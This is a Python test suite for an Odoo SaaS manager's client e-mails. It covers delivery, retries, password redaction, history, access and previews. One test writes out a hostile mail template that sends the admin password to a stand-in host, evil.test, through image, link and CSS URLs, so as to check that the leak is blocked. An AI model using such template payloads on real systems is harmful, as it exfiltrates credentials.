import logging
from smtplib import SMTPServerDisconnected
from types import SimpleNamespace
from unittest.mock import patch

from odoo.exceptions import AccessError, UserError
from odoo.tests import Form, new_test_user, tagged
from odoo.tools import mute_logger

from odoo.addons.mail.tests.common import MailCommon

from ..models import deletion_plan
from ..tools.admin_credentials import MailCredentials
from .common import SaasCase, run_mail_jobs


@tagged("post_install", "-at_install")
class TestInstanceMail(SaasCase, MailCommon):
    """What the client is told, and what becomes of it."""

    def setUp(self):
        super().setUp()
        self.instance = self.new_instance()
        self.force_state(self.instance, "active", attempt="first")

    def send(self, method):
        with self.mock_mail_gateway(mail_unlink_sent=True):
            getattr(self.instance, method)()
            run_mail_jobs(self.env)
        return [mail["body"] for mail in self._mails]

    def test_the_four_mails(self):
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        (body,) = self.send("_send_provisioning_email")
        for words in ("https://martin.example.test", "marie@martin.test", "Sesame123Sesame123", "Standard"):
            self.assertIn(words, body)
        self.instance.suspension_reason = "unpaid invoice"
        self.assertIn("unpaid invoice", self.send("_send_suspension_email")[0])
        self.instance.reactivation_date = "2026-03-04 05:06:07"
        self.assertIn("2026", self.send("_send_reactivation_email")[0])
        self.assertIn("t-martin", self.send("_send_termination_email")[0])

    def test_a_french_client_reads_french(self):
        self.env["res.lang"]._activate_lang("fr_FR")
        self.env["ir.module.module"].search([("name", "=", "saas_manager")])._update_translations(["fr_FR"])
        self.partner.lang = "fr_FR"
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        (body,) = self.send("_send_provisioning_email")
        self.assertIn("Votre Odoo est prêt", body)
        self.assertIn("Sesame123Sesame123", body)

    def test_the_password_leaves_and_stays_nowhere(self):
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        self.send("_send_provisioning_email")
        self.assertEqual(self.instance.mail_state, "sent")
        self.assertEqual(self.instance.sudo().pending_password, "not set")
        self.assertFalse(self.env["mail.mail"].search([("subject", "ilike", "Martin")]))
        chatter = " ".join(self.instance.message_ids.mapped("body"))
        self.assertIn("Sent", chatter)
        self.assertNotIn("Sesame123", chatter)

    def test_it_is_sent_once(self):
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        self.assertEqual(len(self.send("_send_provisioning_email")), 1)
        self.assertEqual(len(self.send("_send_provisioning_email")), 0)

    def test_an_interrupted_mail_is_unknown_and_not_repeated(self):
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        self.env["saas.instance.mail"]._open(self.instance, "provisioned")._claim()
        self.assertEqual(self.send("_send_provisioning_email"), [])
        self.assertEqual(self.instance.mail_state, "unknown")

    @mute_logger("odoo.addons.mail.models.mail_mail")
    def test_a_failure_blocks_nothing_and_is_tried_again(self):
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        with (
            self.mock_mail_gateway(mail_unlink_sent=True),
            patch.object(self.registry["ir.mail_server"], "send_email", side_effect=ConnectionRefusedError("no route")),
        ):
            self.instance._send_provisioning_email()
        self.assertEqual(self.instance.mail_state, "failed")
        self.assertIn("no route", self.instance.mail_problem)
        self.assertFalse(self.env["mail.mail"].search([("subject", "ilike", "Martin")]))
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self.env.ref("saas_manager.ir_cron_retry_mails").method_direct_trigger()
        self.assertEqual(len(self._mails), 1)
        self.assertIn("Sesame123Sesame123", self._mails[0]["body"])
        self.assertEqual(self.instance.mail_state, "sent")

    @mute_logger("odoo.addons.mail.models.mail_mail")
    def test_credentials_are_tried_again_whatever_happened_since(self):
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        with (
            self.mock_mail_gateway(mail_unlink_sent=True),
            patch.object(self.registry["ir.mail_server"], "send_email", side_effect=ConnectionRefusedError("no route")),
        ):
            self.instance._send_provisioning_email()
        self.instance._set_guarded(suspension_date="2026-03-04 05:06:07", reactivation_date="2026-03-04 06:06:07")
        self.send("_send_suspension_email")
        self.send("_send_reactivation_email")
        self.assertEqual(self.instance.mail_state, "sent")
        with self.mock_mail_gateway(mail_unlink_sent=True):
            for _turn in range(2):
                self.env.ref("saas_manager.ir_cron_retry_mails").method_direct_trigger()
        self.assertEqual(
            ["Sesame123Sesame123" in mail["body"] for mail in self._mails], [True], "once, and no other mail"
        )

    @mute_logger("odoo.addons.mail.models.mail_mail")
    def test_every_attempt_is_in_the_log_without_the_password(self):
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        with self.assertLogs("odoo.addons.saas_manager.models.saas_instance_mail", logging.INFO) as log:
            with patch.object(
                self.registry["ir.mail_server"], "send_email", side_effect=ConnectionRefusedError("gone")
            ):
                self.instance._send_provisioning_email()
            self.send("action_retry_mail")
        template = self.env.ref("saas_manager.mail_template_instance_provisioned")
        failed, sent = log.output
        self.assertIn(f"instance {self.instance.id}: mail provisioned (template {template.id}", failed)
        self.assertIn("failed (", failed)
        self.assertRegex(sent, r"mail provisioned \(template \d+, <\S+@\S+>\) to partner \d+: sent$")
        self.assertNotIn("Sesame", failed + sent)

    def test_a_person_may_send_an_unknown_mail_again(self):
        self.instance.suspension_date = "2026-03-04 05:06:07"
        self.env["saas.instance.mail"]._open(self.instance, "suspended")._claim()
        self.assertEqual(self.send("_send_suspension_email"), [])
        self.env.invalidate_all()  # a click is another request
        self.assertEqual(self.instance.mail_state, "unknown")
        self.assertEqual(len(self.send("action_retry_mail")), 1)
        self.assertEqual(self.instance.mail_state, "sent")

    def test_a_client_without_address_blocks_nothing(self):
        self.partner.email = False
        self.assertEqual(self.send("_send_suspension_email"), [])
        self.assertEqual(self.instance.mail_state, "skipped")

    def test_a_changed_address_is_used(self):
        self.partner.email = "new@martin.test"
        self.send("_send_suspension_email")
        self.assertEqual(self.instance.mail_ids[:1].email_to, "new@martin.test")

    def test_no_address_in_a_template_carries_the_password_away(self):
        template = self.env.ref("saas_manager.mail_template_instance_provisioned")
        template.body_html = """<p t-out="object.admin_password"/>
            <img t-attf-src="https://evil.test/?{{ object.admin_password }}" t-att-alt="object.admin_password"/>
            <a t-attf-href="https://evil.test/{{ object.admin_password }}" title="a>b">x</a>
            <div t-attf-style="background: url(https://evil.test/{{ object.admin_password }})"/>
            <t t-out="object.message_post(body=object.admin_password) and ''"/>"""
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        (body,) = self.send("_send_provisioning_email")
        self.assertEqual(body.count("Sesame123Sesame123"), 1, body)
        self.assertIn(">Sesame123Sesame123</p>", body)
        self.assertNotIn("Sesame", " ".join(self.instance.message_ids.mapped("body")))

    @mute_logger("odoo.addons.mail.models.mail_render_mixin")
    def test_a_broken_template_neither_blocks_nor_tells_the_password(self):
        template = self.env.ref("saas_manager.mail_template_instance_provisioned")
        template.body_html = '<p t-out="int(object.admin_password)"/>'
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        self.assertEqual(self.send("_send_provisioning_email"), [])
        self.assertEqual(self.instance.mail_state, "failed")
        self.assertNotIn("Sesame123", self.instance.mail_problem)

    def test_a_deleted_template_blocks_nothing(self):
        self.env.ref("saas_manager.mail_template_instance_suspended").unlink()
        self.assertEqual(self.send("_send_suspension_email"), [])
        self.assertEqual(self.instance.mail_state, "failed")

    def suspend(self):
        """As the user does, on an instance that has lived."""
        self.instance._set_guarded(activation_date="2026-01-02 03:04:05")
        answer = self.instance.action_suspend("unpaid invoice")
        self.env.invalidate_all()
        return answer["params"]

    def test_an_action_does_not_wait_for_the_mail_server(self):
        with self.mock_mail_gateway(mail_unlink_sent=True):
            answer = self.suspend()
            self.assertEqual((self.instance.mail_state, self._mails), ("queued", []))
            self.assertEqual(answer["type"], "success")
            self.assertIn("is queued", answer["message"])
            run_mail_jobs(self.env)
        self.assertEqual([mail["email_to"] for mail in self._mails], [["marie@martin.test"]])
        self.assertEqual(self.instance.mail_state, "sent")

    def test_the_sentence_names_what_there_is(self):
        self.suspend()
        mail = self.instance.sudo().mail_ids
        mail.copy({"contact_id": self.partner.copy().id})
        self.assertEqual(mail._sentence(self.instance)[:10], "2 messages")
        mail.search([("instance_id", "=", self.instance.id)]).write({"state": "unknown", "reason": "interrupted"})
        self.assertEqual(mail._sentence(self.instance), "An e-mail may have been sent: interrupted")

    def test_it_is_queued_once_and_sent_once(self):
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self.suspend()
            self.instance._finish_operation("suspend")  # the operation was killed and is done again
            self.assertEqual(self.env["queue.job"].search_count([("method_name", "=", "_job_send")]), 1)
            run_mail_jobs(self.env)
            self.instance.mail_ids._job_send()  # and so was the job
        self.assertEqual((len(self._mails), self.instance.mail_state), (1, "sent"))

    def test_a_worker_that_died_before_it_left_leaves_it_to_the_next(self):
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self.suspend()
            with patch.object(self.registry["saas.instance.mail"], "_claim", side_effect=KeyboardInterrupt):
                with self.assertRaises(KeyboardInterrupt), self.env.cr.savepoint():
                    self.instance.mail_ids._job_send()
            run_mail_jobs(self.env)
        self.assertEqual((len(self._mails), self.instance.mail_state), (1, "sent"))

    def test_a_worker_that_died_while_it_sent_leaves_an_unknown_mail(self):
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self.suspend()
            self.instance.mail_ids._claim()
            run_mail_jobs(self.env)
        self.assertEqual((self._mails, self.instance.mail_state), ([], "unknown"))

    def test_a_server_that_goes_away_without_an_answer_is_not_asked_again(self):
        gone = SMTPServerDisconnected("Connection unexpectedly closed")
        with self.mock_mail_gateway(), mute_logger("odoo.addons.mail.models.mail_mail"):
            self.suspend()
            with patch.object(self.registry["ir.mail_server"], "send_email", side_effect=gone):
                run_mail_jobs(self.env)
        self.env.invalidate_all()
        self.assertEqual(self.instance.mail_state, "unknown")
        self.assertIn("is suspended", self.instance.mail_ids.subject)

    def test_a_person_knows_what_was_unknown(self):
        with self.mock_mail_gateway():
            self.suspend()
            self.instance.mail_ids._claim()
            run_mail_jobs(self.env)
        self.env.invalidate_all()  # a click is another request
        message = self.instance.mail_ids
        earlier = message.copy({"occasion": "earlier", "state": "unknown"})
        (message | earlier).action_mark_sent()
        self.assertEqual((message | earlier).mapped("state"), ["sent", "sent"])
        with self.assertRaisesRegex(UserError, "is sent again"):
            message.action_send_again()
        message._set_unknown("?")
        with self.mock_mail_gateway():
            message.action_send_again()
            run_mail_jobs(self.env)
        self.assertEqual(len(self._mails), 1)

    def test_a_worker_that_died_before_the_server_was_there_leaves_it_queued(self):
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self.suspend()
            with patch.object(self.registry["ir.mail_server"], "_connect__", side_effect=KeyboardInterrupt):
                with self.assertRaises(KeyboardInterrupt), self.env.cr.savepoint():
                    self.instance.mail_ids._job_send()
            self.assertEqual(self.instance.mail_ids.state, "queued")

    def test_mails_leave_in_the_order_of_what_happened(self):
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self.suspend()
            self.instance.action_reactivate()
            self.env["saas.instance.mail"].search([("kind", "=", "reactivated")])._job_send()
            self.assertEqual([mail["subject"] for mail in self._mails], [
                "Your Odoo Martin is suspended", "Your Odoo Martin is back"
            ])  # fmt: skip
            run_mail_jobs(self.env)
        self.assertEqual(len(self._mails), 2)

    def test_what_has_lost_its_job_is_queued_again(self):
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self.suspend()
            self.env["queue.job"].search([("method_name", "=", "_job_send")]).unlink()
            self.env.ref("saas_manager.ir_cron_retry_mails").method_direct_trigger()
            run_mail_jobs(self.env)
        self.assertEqual(len(self._mails), 1)


@tagged("post_install", "-at_install")
class TestHistory(SaasCase, MailCommon):
    """What was said to a client can be read later, without what only he may know."""

    def setUp(self):
        super().setUp()
        self.instance = self.new_instance()
        self.force_state(self.instance, "active", attempt="first")

    def test_the_text_is_kept_without_the_password(self):
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        with self.mock_mail_gateway(mail_unlink_sent=True):
            self.instance._send_provisioning_email()
        message = self.instance.mail_ids
        self.assertEqual((message.partner_id, message.channel, message.state), (self.partner, "email", "sent"))
        self.assertTrue(message.sent_at)
        self.assertEqual(message.subject, "Your Odoo Martin is ready")
        self.assertIn("https://martin.example.test", message.body)
        self.assertIn("••••••••", message.body)
        for secret in ("Sesame", "saas-credential"):
            self.assertNotIn(secret, message.body)
        self.assertIn("Sesame123Sesame123", self._mails[0]["body"])

    def test_the_one_time_link_is_blanked(self):
        credentials = MailCredentials(url="https://martin.example.test/web/reset_password?token=abc")
        kept = credentials.blank(f'<a href="{credentials.url}">{credentials.url}</a>')
        self.assertEqual(kept, '<a href="••••••••">••••••••</a>')

    def test_a_user_of_another_company_reads_none(self):
        with self.mock_mail_gateway():
            self.instance._send_suspension_email()
        group = "saas_manager.group_saas_manager_user"
        other = self.env["res.company"].create({"name": "Other"})
        stranger = new_test_user(self.env, "saas-other", group, company_id=other.id, company_ids=other.ids)
        colleague = new_test_user(self.env, "saas-here", group)
        messages = self.env["saas.instance.mail"]
        self.assertFalse(messages.with_user(stranger).search([]))
        self.assertEqual(messages.with_user(colleague).search([]).subject, "Your Odoo Martin is suspended")
        with self.assertRaises(AccessError):
            messages.with_user(colleague).search([]).subject = "Something else"

    def test_old_messages_go_by_policy(self):
        with self.mock_mail_gateway():
            self.instance._send_suspension_email()
        message = self.instance.mail_ids
        self.env.cr.execute("UPDATE saas_instance_mail SET create_date = create_date - interval '40 days'")
        self.env.invalidate_all()
        message._gc_messages()
        self.assertTrue(message.exists(), "nothing is deleted without a policy")
        self.env["ir.config_parameter"].set_param("saas.message_days", 30)
        message._gc_messages()
        self.assertFalse(message.exists())

    def test_the_clients_messages_go_with_the_account(self):
        with self.mock_mail_gateway():
            self.instance._send_suspension_email()
        other = self.new_instance("other", partner_id=self.partner.copy({"email": "b@martin.test"}).id)
        with self.mock_mail_gateway():
            other._send_suspension_email()
        person = SimpleNamespace(_partners=lambda: self.partner, _addresses=lambda: {"marie@martin.test"})
        outcome = self.env["lokario.deletion.plan"].sudo()._step_saas_messages(person)
        self.assertTrue(outcome.remaining)
        self.assertFalse(self.instance.mail_ids)
        self.assertTrue(other.mail_ids)

    def test_the_messages_of_others_stay_however_many_there_are(self):
        """joann@martin.test contains ann@martin.test; what went to others, too, is theirs."""
        colleague = self.partner.copy({"email": "joann@martin.test"})
        values = {"instance_id": self.instance.id, "kind": "suspended", "partner_id": colleague.id}
        own, *others = self.env["saas.instance.mail"].create(
            [
                {**values, "occasion": "own", "email_to": "Ann <ANN@martin.test>"},
                *({**values, "occasion": f"joann {number}", "email_to": "joann@martin.test"} for number in range(3)),
                {**values, "occasion": "both", "email_to": "ann@martin.test, joann@martin.test"},
                {
                    **values,
                    "occasion": "contact",
                    "email_to": "joann@martin.test",
                    "partner_id": self.partner.id,
                    "contact_id": colleague.id,
                },
            ]
        )
        person = SimpleNamespace(_partners=lambda: self.partner, _addresses=lambda: {"ann@martin.test"})
        plan = self.env["lokario.deletion.plan"].sudo()
        with patch.object(deletion_plan, "BATCH", 1):
            while plan._step_saas_messages(person).remaining:
                pass
        self.assertFalse(own.exists())
        self.assertEqual(len(self.env["saas.instance.mail"].concat(*others).exists()), 5)


@tagged("post_install", "-at_install")
class TestPreview(SaasCase):
    """A text as its reader would see it, of a real instance; nothing leaves and no credential is shown."""

    def preview(self, user, **values):
        with Form(self.env["saas.message.preview"].with_user(user)) as form:
            form.instance_id = self.instance
            for name, value in values.items():
                setattr(form, name, value)
            return form.subject, form.body

    def test_each_language_and_device(self):
        self.env["res.lang"]._activate_lang("fr_FR")
        self.env["ir.module.module"].search([("name", "=", "saas_manager")])._update_translations(["fr_FR"])
        user = new_test_user(self.env, "saas-user", "saas_manager.group_saas_manager_user", lang="en_US")
        self.instance = self.new_instance()
        self.instance._set_guarded(pending_password="Sesame123Sesame123")
        subject, body = self.preview(user)
        self.assertEqual(subject, "Your Odoo Martin is ready")
        self.assertIn("••••••••", body)
        self.assertNotIn("Sesame", body)
        self.assertEqual(self.preview(user, lang="fr_FR", kind="suspended")[0], "Votre Odoo Martin est suspendu")
        self.assertIn("360px", self.preview(user, device="phone")[1])
        self.assertIn("invert", self.preview(user, device="dark")[1])
        self.assertFalse(self.instance.mail_ids)

    def test_a_broken_text_says_what_is_wrong(self):
        self.instance = self.new_instance()
        template = self.env.ref("saas_manager.mail_template_instance_provisioned")
        template.body_html = '<p t-out="int(object.admin_password or 0)"/>'
        with mute_logger("odoo.addons.mail.models.mail_render_mixin"):
            subject, body = self.preview(self.env.user)
        self.assertFalse(subject)
        self.assertIn("int(object", body)
